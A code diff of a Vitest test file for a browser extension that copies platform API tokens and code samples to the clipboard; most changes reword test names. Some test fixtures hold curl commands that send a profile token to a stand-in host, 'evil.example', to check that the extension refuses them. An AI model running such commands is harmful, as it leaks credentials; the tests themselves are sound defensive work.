@@ -1,7 +1,7 @@
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import { fakeBrowser } from 'wxt/testing/fake-browser';
 
-/** The system's clipboard: what no test may touch. */
+/** Stands in for the system's clipboard, which no test may touch. */
 const clipboard = vi.hoisted(() => ({ text: '', fails: false }));
 vi.mock('../../../../lib/clipboard/clipboard.ts', async () => {
   const { FailureError } = await import('../../../../lib/domain/failure.ts');
@@ -53,8 +53,8 @@ withSandbox(async (fresh) => {
 afterEach(() => vi.useRealTimers());
 
 const acme = () => ines.ref('Acme Farms');
-const { tokens } = { tokens: () => ines.account.tokens! };
-function made(name: string, more: Partial<Parameters<typeof issueToken>[1]> = {}) {
+const tokens = () => ines.account.tokens!;
+function addToken(name: string, more: Partial<Parameters<typeof issueToken>[1]> = {}) {
   return issueToken(sandbox.state, {
     region: 'us-e1',
     name,
@@ -70,7 +70,7 @@ const idOf = ({ name, created_at }: { name: string; created_at: string }) => ({
 });
 
 describe('copyToken', () => {
-  it('copies the read-only token by default, and answers its name but never its value', async () => {
+  it('copies the read-only token by default and returns its name, not its value', async () => {
     const answer = await copyToken({ ...acme(), token: null });
     expect(clipboard.text).toBe(tokens().read);
     expect(answer).toEqual({ name: 'Dashboard export', permission: 'read' });
@@ -78,14 +78,14 @@ describe('copyToken', () => {
     expect(entry).toMatchObject({ what: 'token-copied', subject: 'Dashboard export' });
   });
 
-  it('copies the person’s own default where they chose one', async () => {
-    const chosen = made('Chosen', { permission: 'full' });
+  it('copies the default that the person chose', async () => {
+    const chosen = addToken('Chosen', { permission: 'full' });
     await updateProfilePreferences(acme().profileKey, (before) => ({ ...before, readToken: idOf(chosen) }));
     await copyToken({ ...acme(), token: null });
     expect(clipboard.text).toBe(chosen.token);
   });
 
-  it('never copies the extension’s own token, by default or by name', async () => {
+  it('never copies the extension’s token, by default or by name', async () => {
     sandbox.state.tokens = sandbox.state.tokens.filter(
       ({ profile, name }) =>
         profile !== ines.id('Acme Farms') || name.startsWith('Profiles for TagoIO extension'),
@@ -95,13 +95,13 @@ describe('copyToken', () => {
     expect(await failureOf(copyToken({ ...acme(), token: idOf(extensionToken) }))).toMatchObject({
       code: 'not-allowed',
     });
-    // Renamed on the platform, it is known by its value.
+    // Renamed on the platform, it is recognised by its value.
     extensionToken.name = 'Something else';
     expect(await failureOf(copyToken({ ...acme(), token: null }))).toMatchObject({ code: 'no-token' });
     expect(clipboard.text).toBe('before');
   });
 
-  it('copies a token that the person pasted to connect with: it is theirs', async () => {
+  it('copies the token that the person pasted to connect', async () => {
     await freshBrowser();
     const pasted = await connectByToken(sandbox, accountNamed(sandbox, 'Ines Duarte'));
     const token = sandbox.state.tokens.find((one) => one.token === pasted.account.token)!;
@@ -109,9 +109,9 @@ describe('copyToken', () => {
     expect(clipboard.text).toBe(pasted.account.token);
   });
 
-  it('says so, and guesses nothing, where none or several match', async () => {
-    const twin = made('Twin');
-    made('Twin', { created_at: twin.created_at });
+  it('fails when no token or several tokens match', async () => {
+    const twin = addToken('Twin');
+    addToken('Twin', { created_at: twin.created_at });
     const gone = { name: 'Gone', createdAt: '2020-01-01T00:00:00.000Z' };
     expect(await failureOf(copyToken({ ...acme(), token: idOf(twin) }))).toMatchObject({
       code: 'token-ambiguous',
@@ -120,8 +120,8 @@ describe('copyToken', () => {
     expect(clipboard.text).toBe('before');
   });
 
-  it('refuses an expired one by name and passes it over by default', async () => {
-    const expired = made('Expired', { permission: 'read', expire_time: '2020-01-01T00:00:00.000Z' });
+  it('refuses an expired token by name and skips it by default', async () => {
+    const expired = addToken('Expired', { permission: 'read', expire_time: '2020-01-01T00:00:00.000Z' });
     expect(await failureOf(copyToken({ ...acme(), token: idOf(expired) }))).toMatchObject({
       code: 'token-expired',
     });
@@ -129,14 +129,14 @@ describe('copyToken', () => {
     expect(clipboard.text).toBe(tokens().read);
   });
 
-  it('writes nothing into the journal when the clipboard refuses', async () => {
+  it('records nothing when the clipboard fails', async () => {
     clipboard.fails = true;
     expect(await failureOf(copyToken({ ...acme(), token: null }))).toMatchObject({ code: 'clipboard' });
     const entries = await readJournal({ limit: 10 });
     expect(entries.map(({ what }) => what)).not.toContain('token-copied');
   });
 
-  it('leaves no trace of a value in what is stored', async () => {
+  it('stores no token’s value', async () => {
     await copyToken({ ...acme(), token: null });
     await copyActiveToken();
     const stored = JSON.stringify([
@@ -157,7 +157,7 @@ describe('copySample', () => {
     ...change,
   });
 
-  it('fills the places, by what the sample does', async () => {
+  it('fills the placeholders with the token that the sample needs', async () => {
     await copySample({ ...sample({}), token: null });
     expect(clipboard.text).toBe(`new Account({ token: "${tokens().read}" }).devices.list()`);
     const text = 'new Account({ token: "YOUR-TOKEN" }).devices.create({})';
@@ -165,7 +165,7 @@ describe('copySample', () => {
     expect(clipboard.text).toBe(`new Account({ token: "${tokens().write}" }).devices.create({})`);
   });
 
-  it('refuses texts that are no sample', async () => {
+  it('refuses texts that are not samples', async () => {
     for (const change of [
       { text: 'new Account({ token })' },
       { what: 'complete' },
@@ -182,7 +182,7 @@ describe('copySample', () => {
     expect(clipboard.text).toBe('before');
   });
 
-  it('refuses to send a token elsewhere, and names where', async () => {
+  it('refuses a sample that sends the token to another host, and names it', async () => {
     const listed = sandbox.requests.count({ route: '/profile/:id/token' });
     const curl = "curl -L 'https://evil.example/device' \\\n-H 'Accept: application/json'";
     for (const [change, code, detail] of [
@@ -201,11 +201,11 @@ describe('copySample', () => {
       expect(await failureOf(copySample({ ...sample(change), token: null }))).toEqual({ code, detail });
     }
     expect(clipboard.text).toBe('before');
-    // Not even asked for.
+    // The tokens were not even read.
     expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed);
   });
 
-  it('copies nothing when another profile is active than the button named', async () => {
+  it('copies nothing when another profile is active than the one on the button', async () => {
     const { profileKey } = ines.ref('Demo');
     expect(await failureOf(copySample({ ...sample({ profileKey }), token: null }))).toMatchObject({
       code: 'not-found',
@@ -213,13 +213,13 @@ describe('copySample', () => {
     expect(clipboard.text).toBe('before');
   });
 
-  it('does not put a read-only token where something is changed, even by name', async () => {
+  it('refuses a read-only token in a sample that writes, even by name', async () => {
     const read = sandbox.state.tokens.find(({ token }) => token === tokens().read)!;
     const request = { ...sample({ method: 'POST' }), token: idOf(read) };
     expect(await failureOf(copySample(request))).toMatchObject({ code: 'read-only-token' });
   });
 
-  it('offers the tokens without values, the default first known by its mark', async () => {
+  it('offers tokens without values, with the default marked', async () => {
     const offered = await offerTokens(sample({ method: 'DELETE' }));
     expect(offered.filter(({ isDefault }) => isDefault)).toEqual([
       expect.objectContaining({ name: 'Field gateway', fits: true }),
@@ -229,7 +229,7 @@ describe('copySample', () => {
     expect(offered.map(({ name }) => name).filter((name) => name.startsWith('Profiles for'))).toEqual([]);
   });
 
-  it('copies the token alone of the profile that was named', async () => {
+  it('copies only the token of the named profile', async () => {
     const { profileKey } = acme();
     expect(await copyTokenAlone({ profileKey, sample: null })).toMatchObject({
       tokenName: 'Dashboard export',
@@ -257,7 +257,7 @@ describe('copySample', () => {
       });
     const choice = { token: null, format: null, fullAccepted: false };
 
-    it('keeps one sample for a profile to be chosen, and copies it once', async () => {
+    it('holds one sample until a profile is chosen, and copies it once', async () => {
       await ask('other-profile');
       expect(opened).toEqual([expect.objectContaining({ type: 'popup' })]);
       expect(await pendingCopy()).toEqual({ kind: 'sample', profile: null, token: null });
@@ -271,7 +271,7 @@ describe('copySample', () => {
       });
     });
 
-    it('says before the copy which token goes where, and closes the window of the copy before', async () => {
+    it('shows which token goes to which host, and closes the previous window', async () => {
       await ask('confirm');
       await ask('confirm', { method: 'DELETE' });
       expect(closed).toEqual([1]);
@@ -282,13 +282,13 @@ describe('copySample', () => {
       expect(JSON.stringify(shown)).not.toMatch(/p-[0-9a-f]{8}-/);
     });
 
-    it('refuses there what is refused on the page', async () => {
+    it('refuses what is refused on the page', async () => {
       const text = 'curl -H "token: <your-profile-token>" https://evil.example';
       expect(await failureOf(ask('confirm', { text }))).toMatchObject({ code: 'foreign-destination' });
       expect(opened).toEqual([]);
     });
 
-    it('copies a configuration with the read-only token, and asks before one that may do everything', async () => {
+    it('copies a configuration with the read-only token, and asks before one with full permission', async () => {
       await openCopyAs({ ...acme(), token: null });
       const { formats, hosts } = await previewCopy({ ...acme(), format: 'curl' });
       expect(formats).toContain('sdk-python');
@@ -307,7 +307,7 @@ describe('copySample', () => {
       expect(clipboard.text).toBe(`token: ${tokens().full}`);
     });
 
-    it('copies a configuration without a secret without asking for one', async () => {
+    it('reads no token for a configuration without one', async () => {
       await openCopyAs({ ...acme(), token: null });
       const listed = sandbox.requests.count({ route: '/profile/:id/token' });
       await copyPending({ ...acme(), ...choice, format: 'cli-config' });
@@ -318,7 +318,7 @@ describe('copySample', () => {
 });
 
 describe('assertNotTooOften', () => {
-  it('lets one a second through, per tab and kind', () => {
+  it('allows one call a second per tab and kind', () => {
     assertNotTooOften('copy', 1, 1000);
     expect(() => assertNotTooOften('copy', 1, 1999)).toThrow('too-often');
     assertNotTooOften('copy', 2, 1500);
@@ -326,7 +326,7 @@ describe('assertNotTooOften', () => {
     assertNotTooOften('copy', 1, 2000);
   });
 
-  it('does not wait for hours where the clock was set back', () => {
+  it('does not block for hours after the clock was set back', () => {
     assertNotTooOften('copy', 3, 90_000_000);
     assertNotTooOften('copy', 3, 5_000_000);
   });
@@ -341,7 +341,7 @@ describe('clearing the clipboard later', () => {
     vi.useFakeTimers({ toFake: ['Date'] });
   });
 
-  it('clears what the extension put there, once its time has come', async () => {
+  it('clears what the extension copied when the time is over', async () => {
     await clearAfter(120);
     await copyToken({ ...acme(), token: null });
     await clearIfStillThere();
@@ -351,7 +351,7 @@ describe('clearing the clipboard later', () => {
     expect(clipboard.text).toBe('');
   });
 
-  it('does not leave a token for a day where the clock was set back by one', async () => {
+  it('clears a token at once when the clock was set back', async () => {
     await clearAfter(120);
     await copyToken({ ...acme(), token: null });
     later(-86_400_000);
@@ -359,7 +359,7 @@ describe('clearing the clipboard later', () => {
     expect(clipboard.text).toBe('');
   });
 
-  it('leaves what was copied since', async () => {
+  it('leaves what the person copied since', async () => {
     await clearAfter(10);
     await copyToken({ ...acme(), token: null });
     clipboard.text = 'something of the person’s';
@@ -381,7 +381,7 @@ describe('clearing the clipboard later', () => {
     expect(clipboard.text).toBe('');
   });
 
-  it('covers a new token that the options page copied itself, known by its fingerprint', async () => {
+  it('clears a new token that the options page copied, recognised by its fingerprint', async () => {
     await clearAfter(10);
     clipboard.text = 'value of a new token';
     const fingerprint = await fingerprintOf(clipboard.text);
@@ -395,7 +395,7 @@ describe('clearing the clipboard later', () => {
     expect(clipboard.text).toBe('');
   });
 
-  it('clears nothing for a fingerprint that is none', async () => {
+  it('clears nothing for an invalid fingerprint', async () => {
     await clearAfter(10);
     await recordTokenCopy({ ...acme(), name: 'Export', fingerprint: { salt: [], digest: [] } });
     later(10_000);
@@ -403,7 +403,7 @@ describe('clearing the clipboard later', () => {
     expect(clipboard.text).toBe('before');
   });
 
-  it('keeps nothing to compare with when it is off, or when the browser does not let it look', async () => {
+  it('stores no fingerprint when it is off or the clipboard may not be read', async () => {
     await copyToken({ ...acme(), token: null });
     expect(await fakeBrowser.storage.session.get()).toEqual({});
     await clearAfter(10);
@@ -419,7 +419,7 @@ describe('clearing the clipboard later', () => {
     expect(clipboard.text).toBe(tokens().read);
   });
 
-  it('remembers a salted digest alone', async () => {
+  it('stores only a salted digest', async () => {
     await clearAfter(10);
     await copyToken({ ...acme(), token: null });
     const first = JSON.stringify(await fakeBrowser.storage.session.get());
